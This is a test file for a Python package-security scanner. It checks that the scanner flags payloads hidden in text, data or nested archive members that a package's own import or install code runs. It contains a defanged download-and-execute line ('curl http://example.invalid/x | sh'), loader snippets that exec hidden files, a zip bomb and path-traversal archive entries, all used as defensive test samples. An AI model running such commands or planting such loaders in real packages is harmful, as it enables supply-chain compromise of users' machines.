"""Code kept where nothing reads it as code: a member of another name run as Python by
the package's own code, and archives inside the target.

A package can ship its payload as helper.txt or data.dat and run it from __init__.py or
setup.py (exec of its text, runpy.run_path, a source file loader), or ship a zip of
modules it puts on sys.path. Such a member is analysed as Python in the execution
context of the code that runs it, and its findings name it; archives inside a target are
read one level deep, under limits. Every sample is defanged (example.invalid) and only
read, never run.
"""

from __future__ import annotations

import io
import os
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest

from pipwarden.findings import Severity
from pipwarden.scan import scan_target
from pipwarden.scan.archive import DEFAULT_LIMITS, HEAD
from pipwarden.scan.nested import python_members
from pipwarden.scan.reach import read_call_path
from tests.support.builders import build_sdist, build_wheel

PAYLOAD = 'import os; os.system("curl http://example.invalid/x | sh")\n'
HERE = "os.path.join(os.path.dirname(__file__), {name!r})"

#: Form -> (loader source in pkg/__init__.py, the member it runs).
IMPORT_FORMS = {
    "exec of open().read()": (f"import os\nexec(open({HERE}).read())\n", "helper.txt"),
    "exec of a handle": (
        f"import os\nwith open({HERE}) as f:\n    exec(compile(f.read(), 'h', 'exec'))\n",
        "helper.txt",
    ),
    "exec of a variable": (f"import os\ncode = open({HERE}).read()\nexec(code)\n", "helper.txt"),
    "Path.read_text": (
        "from pathlib import Path\nexec((Path(__file__).parent / {name!r}).read_text())\n",
        "helper.txt",
    ),
    "runpy.run_path": (f"import os, runpy\nrunpy.run_path({HERE})\n", "helper.txt"),
    "SourceFileLoader": (
        f"import importlib.machinery, os\n"
        f"importlib.machinery.SourceFileLoader('h', {HERE}).load_module()\n",
        "helper.dat",
    ),
    "spec_from_file_location": (
        f"import importlib.util, os\n"
        f"spec = importlib.util.spec_from_file_location('h', {HERE})\n"
        "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n",
        "helper.dat",
    ),
    "imp.load_source": (f"import imp, os\nimp.load_source('h', {HERE})\n", "helper.dat"),
}


def _scan(tmp_path: Path, built: tuple[str, bytes]) -> list[tuple[str, Severity, str | None]]:
    name, data = built
    (tmp_path / name).write_bytes(data)
    result = scan_target(tmp_path / name, model=False)
    return [(f.rule, f.severity, f.file) for f in result.findings]


def _worst(found: list[tuple[str, Severity, str | None]], member: str) -> Severity | None:
    return max((s for _, s, f in found if f == member), default=None)


@pytest.mark.parametrize("form", sorted(IMPORT_FORMS))
def test_member_run_on_import_is_analysed_in_a_wheel(tmp_path: Path, form: str) -> None:
    loader, member = IMPORT_FORMS[form]
    files = {"pkg/__init__.py": loader.format(name=member), f"pkg/{member}": PAYLOAD}
    found = _scan(tmp_path, build_wheel("pkg", "1", files))
    assert _worst(found, f"pkg/{member}") == Severity.CRITICAL, found
    # It runs on import: the import-time rules see its module level.
    assert any(r.startswith("startup-hook.") for r, _, f in found if f == f"pkg/{member}")


def test_member_run_on_import_is_analysed_in_an_sdist(tmp_path: Path) -> None:
    loader, member = IMPORT_FORMS["runpy.run_path"]
    files = {"pkg/__init__.py": loader.format(name=member), f"pkg/{member}": PAYLOAD}
    found = _scan(tmp_path, build_sdist("pkg", "1", files))
    assert _worst(found, f"pkg-1/pkg/{member}") == Severity.CRITICAL, found


def test_the_same_member_unloaded_is_data(tmp_path: Path) -> None:
    files = {"pkg/__init__.py": "import os\n", "pkg/helper.txt": PAYLOAD}
    found = _scan(tmp_path, build_wheel("pkg", "1", files))
    assert _worst(found, "pkg/helper.txt") is None


def test_member_setup_py_runs_is_install_time(tmp_path: Path) -> None:
    setup = "from setuptools import setup\nexec(open('pkg/helper.txt').read())\nsetup(name='p')\n"
    files = {"pkg/__init__.py": "", "pkg/helper.txt": PAYLOAD}
    found = _scan(tmp_path, build_sdist("p", "1", files, setup_py=setup))
    rules = {r for r, _, f in found if f == "p-1/pkg/helper.txt"}
    assert "install-hook.run-program" in rules, found


def test_member_run_by_a_function_is_runtime_code(tmp_path: Path) -> None:
    loader = "import os\ndef go():\n    exec(open(" + HERE.format(name="helper.txt") + ").read())\n"
    files = {"pkg/__init__.py": loader, "pkg/helper.txt": PAYLOAD}
    found = _scan(tmp_path, build_wheel("pkg", "1", files))
    on_member = {r for r, _, f in found if f == "pkg/helper.txt"}
    assert "download-execute.remote-command" in on_member
    assert not any(r.startswith("startup-hook.") for r in on_member)


def test_member_a_test_runs_stays_test_code(tmp_path: Path) -> None:
    loader = "exec(open('pkg/helper.txt').read())\n"
    files = {"pkg/__init__.py": "", "pkg/helper.txt": PAYLOAD, "tests/test_h.py": loader}
    found = _scan(tmp_path, build_sdist("p", "1", files))
    assert _worst(found, "p-1/pkg/helper.txt") == Severity.LOW


def test_setup_py_exec_of_a_clean_version_file_stays_clean(tmp_path: Path) -> None:
    setup = (
        "from setuptools import setup\nabout = {}\n"
        "with open('pkg/__about__.txt') as f:\n    exec(f.read(), about)\n"
        "exec(open('pkg/version.py').read())\nsetup(name='p', version=about['v'])\n"
    )
    files = {
        "pkg/__init__.py": "",
        "pkg/__about__.txt": "v = '1.0'\nauthor = 'someone'\n",
        "pkg/version.py": "__version__ = '1.0'\n",
    }
    name, data = build_sdist("p", "1", files, setup_py=setup)
    (tmp_path / name).write_bytes(data)
    result = scan_target(tmp_path / name)
    assert result.verdict == "clean", result.findings


def test_runpy_of_a_clean_helper_stays_clean(tmp_path: Path) -> None:
    loader, member = IMPORT_FORMS["runpy.run_path"]
    files = {
        "pkg/__init__.py": loader.format(name=member),
        f"pkg/{member}": "import json\nCONFIG = json.loads('{}')\n",
    }
    name, data = build_wheel("pkg", "1", files)
    (tmp_path / name).write_bytes(data)
    result = scan_target(tmp_path / name)
    assert result.verdict == "clean", result.findings


def test_paths_that_name_no_member_run_nothing(tmp_path: Path) -> None:
    # Outside the target, absolute, or written (not read): nothing is analysed as code.
    loader = (
        "import os\nexec(open('../../pkg/helper.txt').read())\n"
        "exec(open('/etc/pkg/helper.txt').read())\n"
        "with open(os.path.join(os.path.dirname(__file__), 'helper.txt'), 'w') as f:\n"
        "    exec(f.read())\n"
    )
    files = {"pkg/__init__.py": loader, "pkg/helper.txt": PAYLOAD}
    found = _scan(tmp_path, build_wheel("pkg", "1", files))
    assert _worst(found, "pkg/helper.txt") is None, found


def test_a_loaded_member_that_does_not_parse_says_so(tmp_path: Path) -> None:
    loader, member = IMPORT_FORMS["runpy.run_path"]
    blob = bytes(range(256)) * 4  # bytes no one can read as Python
    files = {"pkg/__init__.py": loader.format(name=member), f"pkg/{member}": blob}
    found = _scan(tmp_path, build_wheel("pkg", "1", files))
    assert any(r.startswith("parse.") for r, _, f in found if f == f"pkg/{member}"), found


@pytest.mark.parametrize(
    ("code", "path"),
    [
        ("exec(open(p).read())", "p"),
        ("exec(io.open(p, 'rb').read())", "p"),
        ("exec(compile(Path(p).read_text(), 'x', 'exec'))", "p"),
        ("exec(q.read_text())", "q"),
        ("exec(open(p, 'w').read())", None),
        ("exec(s)", None),
        ("exec(f.read())", None),
    ],
)
def test_read_call_path(code: str, path: str | None) -> None:
    import ast

    call = ast.parse(code).body[0].value  # type: ignore[attr-defined]
    got = read_call_path(call.args[0])
    assert (got.id if isinstance(got, ast.Name) else got) == path


# ---------------------------------------------------------------- archives inside a target


def _zip(files: dict[str, str | bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, data in files.items():
            zf.writestr(path, data)
    return buf.getvalue()


def _tgz(files: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for path, text in files.items():
            raw = text.encode()
            info = tarfile.TarInfo(path)
            info.size = len(raw)
            tf.addfile(info, io.BytesIO(raw))
    return buf.getvalue()


def _modules(name: str, data: bytes) -> list[str]:
    return [m.name for m in python_members(name, data, DEFAULT_LIMITS.clock())]


def test_archive_on_sys_path_runs_on_import(tmp_path: Path) -> None:
    loader = (
        "import os, sys\n"
        "sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'data.zip'))\nimport p\n"
    )
    files = {"pkg/__init__.py": loader, "pkg/data.zip": _zip({"p.py": PAYLOAD})}
    found = _scan(tmp_path, build_wheel("pkg", "1", files))
    on_module = {r for r, _, f in found if f == "pkg/data.zip!p.py"}
    assert "download-execute.remote-command" in on_module, found
    assert any(r.startswith("startup-hook.") for r in on_module)


def test_zipimported_tarball_in_an_sdist(tmp_path: Path) -> None:
    loader = "import zipimport\nzipimport.zipimporter('pkg/mods.zip').load_module('p')\n"
    files = {
        "pkg/__init__.py": loader,
        "pkg/mods.zip": _zip({"p.py": PAYLOAD}),
        "pkg/more.tar.gz": _tgz({"q/m.py": PAYLOAD}),
    }
    found = _scan(tmp_path, build_sdist("p", "1", files))
    assert _worst(found, "p-1/pkg/mods.zip!p.py") == Severity.CRITICAL, found
    # Not loaded by the package's code: analysed as code nothing imports (no import rules).
    assert _worst(found, "p-1/pkg/more.tar.gz!q/m.py") == Severity.CRITICAL
    assert not any(
        r.startswith("startup-hook.") for r, _, f in found if f == "p-1/pkg/more.tar.gz!q/m.py"
    )


def test_test_data_archive_stays_test_code(tmp_path: Path) -> None:
    files = {
        "pkg/__init__.py": "",
        "tests/data/sample.zip": _zip({"m.py": PAYLOAD}),
        "tests/data/clean.tgz": _tgz({"m.py": "import json\nprint(json.dumps({}))\n"}),
    }
    name, data = build_sdist("p", "1", files)
    (tmp_path / name).write_bytes(data)
    result = scan_target(tmp_path / name)
    assert result.verdict == "clean", result.findings
    assert max(f.severity for f in result.findings) == Severity.LOW


def test_nested_archive_of_clean_code_stays_clean(tmp_path: Path) -> None:
    inner = _zip({"plugin/__init__.py": "def hello():\n    return 'hi'\n"})
    files = {"pkg/__init__.py": "", "pkg/plugins/hello.whl": inner}
    name, data = build_wheel("pkg", "1", files)
    (tmp_path / name).write_bytes(data)
    assert scan_target(tmp_path / name).verdict == "clean"


def test_nested_reader_is_one_level_deep() -> None:
    inner = _zip({"p.py": PAYLOAD})
    outer = _zip({"a.py": "x = 1\n", "inner.zip": inner, "deeper.tgz": _tgz({"q.py": PAYLOAD})})
    assert _modules("pkg/outer.zip", outer) == ["pkg/outer.zip!a.py"]


def test_nested_zip_bomb_is_not_read() -> None:
    bomb = _zip({"big.py": "#" * (20 * 1024 * 1024), "small.py": "x = 1\n"})
    assert len(bomb) < 1 << 20
    assert _modules("pkg/b.zip", bomb) == ["pkg/b.zip!small.py"]


def test_nested_names_leaving_the_archive_are_not_read() -> None:
    evil = _zip({"../../evil.py": PAYLOAD, "/etc/abs.py": PAYLOAD, "ok.py": "x = 1\n"})
    assert _modules("pkg/e.zip", evil) == ["pkg/e.zip!ok.py"]
    tar = _tgz({"../up.py": PAYLOAD, "ok.py": "x = 1\n"})
    assert _modules("pkg/e.tgz", tar) == ["pkg/e.tgz!ok.py"]


def test_nested_archive_must_be_what_its_name_says() -> None:
    as_zip = _zip({"p.py": PAYLOAD})
    as_tgz = _tgz({"p.py": PAYLOAD})
    assert _modules("pkg/x.tgz", as_zip) == []
    assert _modules("pkg/x.zip", as_tgz) == []
    assert _modules("pkg/x.dat", as_zip) == []
    assert _modules("pkg/x.zip", b"PK\x03\x04" + bytes(200)) == []
    assert _modules("pkg/x.tgz", b"\x1f\x8b" + bytes(200)) == []
    # Cut off where the target's reader stopped (not all of it): not read.
    assert _modules("pkg/x.zip", as_zip[:HEAD] if len(as_zip) > HEAD else as_zip[:-10]) == []


def test_nested_archives_in_a_scan_do_not_blow_up(tmp_path: Path) -> None:
    files = {
        "pkg/__init__.py": "",
        "pkg/b.zip": _zip({"big.py": "#" * (20 * 1024 * 1024)}),
        "pkg/e.zip": _zip({"../../evil.py": PAYLOAD}),
        "pkg/n.zip": _zip({"inner.zip": _zip({"p.py": PAYLOAD})}),
    }
    name, data = build_wheel("pkg", "1", files)
    (tmp_path / name).write_bytes(data)
    result = scan_target(tmp_path / name, model=False)
    assert not [f for f in result.findings if f.file and "!" in f.file], result.findings


@pytest.mark.parametrize("build", [build_wheel, build_sdist])
def test_large_members_code_runs_are_read_again_in_full(tmp_path: Path, build: Any) -> None:
    # The reader keeps the first bytes of a data file: one that code runs is read whole.
    padding = "# " + "x" * 78 + "\n"
    helper = padding * 200 + PAYLOAD  # 16 KB: the payload lies past the first 4 KiB
    noise = "".join(f"# {os.urandom(32).hex()}\n" for _ in range(28_000))  # not a bomb
    modules = _zip({"p.py": noise + PAYLOAD})
    assert len(modules) > 1 << 20
    loader = (
        "import os, runpy, sys\nhere = os.path.dirname(__file__)\n"
        "runpy.run_path(os.path.join(here, 'helper.txt'))\n"
        "sys.path.insert(0, os.path.join(here, 'mods.zip'))\n"
    )
    files = {"pkg/__init__.py": loader, "pkg/helper.txt": helper, "pkg/mods.zip": modules}
    found = _scan(tmp_path, build("pkg", "1", files))
    top = "pkg-1/" if build is build_sdist else ""
    assert _worst(found, f"{top}pkg/helper.txt") == Severity.CRITICAL, found
    assert _worst(found, f"{top}pkg/mods.zip!p.py") == Severity.CRITICAL, found


def test_python_source_run_at_install_from_a_test_folder(tmp_path: Path) -> None:
    # A test file is capped at low, unless install- or import-time code runs it.
    setup = "from setuptools import setup\nexec(open('tests/helper.py').read())\nsetup(name='p')\n"
    files = {"p/__init__.py": "", "tests/helper.py": PAYLOAD}
    found = _scan(tmp_path, build_sdist("p", "1", files, setup_py=setup))
    assert _worst(found, "p-1/tests/helper.py") == Severity.CRITICAL, found
    assert "install-hook.run-program" in {r for r, _, f in found if f == "p-1/tests/helper.py"}
    loader = "import runpy\nrunpy.run_path('docs/conf_helper.py')\n"
    files = {"p/__init__.py": loader, "docs/conf_helper.py": PAYLOAD}
    found = _scan(tmp_path, build_sdist("p", "1", files))
    assert _worst(found, "p-1/docs/conf_helper.py") == Severity.CRITICAL, found
    # Run by a test: it stays test code.
    files = {"p/__init__.py": "", "tests/t.py": loader, "docs/conf_helper.py": PAYLOAD}
    found = _scan(tmp_path, build_sdist("p", "1", files))
    assert _worst(found, "p-1/docs/conf_helper.py") == Severity.LOW, found
